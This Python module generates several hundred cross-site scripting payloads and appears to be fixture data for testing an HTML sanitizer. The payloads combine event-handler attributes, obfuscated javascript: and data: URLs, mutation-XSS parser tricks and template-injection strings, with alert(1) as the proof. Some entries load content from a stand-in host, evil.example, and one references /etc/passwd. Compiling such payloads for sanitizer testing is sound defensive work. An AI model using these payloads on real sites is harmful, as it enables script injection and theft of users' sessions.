# ruff: noqa: E501
"""Some hundreds of ways to bring a script into a page by its text, generated from a few dozen ideas."""

from itertools import chain, product

CALL = "alert(1)"
EVENTS = (
    "onload onerror onclick onfocus onblur onmouseover onpointerenter onanimationstart ontransitionend ontoggle onbegin "
    "onstart onfinish onpaste oncut onwheel onscroll onresize onhashchange onmessage onbeforeprint onpageshow onsearch "
    "oninput onchange onsubmit onreset onselect oncontextmenu onauxclick ondrag ondrop onplay oncanplay onafterscriptexecute"
).split()
HOLDERS = ("p", "a", "img", "b", "svg", "math", "body", "td", "blockquote", "x-made-up")
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "java\r\nscript:alert(1)", "java\x00script:alert(1)", "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
    "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "javascript://%0aalert(1)", "javascript:%61lert(1)",
    "vbscript:msgbox(1)", "livescript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "data:application/xhtml+xml,x", "blob:https://x/1", "filesystem:https://x/1", "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)", "jar:https://x!/", "mocha:alert(1)", "//evil.example/x", "\\\\evil.example/x",
    "/\\evil.example", "file:///etc/passwd", "ftp://x/", "javascript\u200b:alert(1)", "\u202ejavascript:alert(1)",
    "ｊavascript:alert(1)", "jav\u0000ascript:alert(1)",
)  # fmt: skip
RAW = ("script", "style", "iframe", "object", "embed", "noscript", "textarea", "title", "xmp", "noembed", "noframes", "template",
       "svg", "math", "form", "select", "frameset", "applet", "plaintext", "listing", "portal", "dialog")  # fmt: skip
MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<p title='`><img src=x onerror=alert(1)>'>", "<img src='x` `<script>alert(1)</script>'>",
    "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script>",
    "<script\x0c>alert(1)</script >", "<script>alert(1)", "</script><script>alert(1)</script>", "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>",
    "<a href='x' href='javascript:alert(1)'>x</a>", "<img src=x onerror=alert(1)//", "<img/src=x/onerror=alert(1)>",
    "<img src=x\tonerror=alert(1)>", "<img src=x:x onerror\x0b=alert(1)>", "<a/href=javascript:alert(1)>x</a>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><use href='data:image/svg+xml,x#x'/>",
    "<math href='javascript:alert(1)'>x</math>", "<math><maction actiontype='statusline#javascript:alert(1)'>x",
    "<p style='background:url(javascript:alert(1))'>x</p>", "<p style='width:expression(alert(1))'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>", "<img srcset='x 1x, javascript:alert(1) 2x'>", "<img src=/media/x.jpg srcset='javascript:alert(1)'>",
    "<picture><source srcset='javascript:alert(1)'><img src=x></picture>", "<video poster=javascript:alert(1) src=x></video>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil.example>", "<base href='javascript:alert(1)//'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x onerror=alert(1)>", "<isindex action=javascript:alert(1)>", "<table background='javascript:alert(1)'><tr><td>x",
    "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<p is='x' slot='y' nonce='z'>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;", "%3Cscript%3Ealert(1)%3C/script%3E", "\u003cscript>alert(1)</script>",
    "＜script＞alert(1)＜/script＞", "<\u0000script>alert(1)</script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{constructor.constructor('alert(1)')()}}", "{% debug %}", "${alert(1)}", "<a href=\"https://x/'onclick='alert(1)\">x</a>",
    '<a title=\'" onclick="alert(1)\' href="https://x/">x</a>', "<p id='x\" onclick=\"alert(1)'>x</p>",
    "<img alt='\"><script>alert(1)</script>' src=/media/a.jpg>", "<code><script>alert(1)</script></code>",
    "<pre><!--</pre><img src=x onerror=alert(1)>-->", "<td><script>alert(1)</script></td>", "<li><style>@import '//evil.example'</style>",
)  # fmt: skip


def payloads() -> list[str]:
    quotes = ("'", '"')
    return list(
        dict.fromkeys(
            chain(
                (f"<{holder} {event}={CALL}>x</{holder}>" for holder, event in product(HOLDERS[:5], EVENTS)),
                (f"<{holder} {event.upper()} = {CALL}>x" for holder, event in product(HOLDERS[5:], EVENTS[:6])),
                (f"<a href={quote}{address}{quote}>x</a>" for quote, address in product(quotes, ADDRESSES)),
                (f'<img src="{address}" alt="x">' for address in ADDRESSES),
                (f"<{tag}>{CALL}<img src=x onerror={CALL}></{tag}>" for tag in RAW),
                (f"<p>a<{tag} src=x href=x><script>{CALL}</script>" for tag in RAW),
                MUTATIONS,
            )
        )
    )
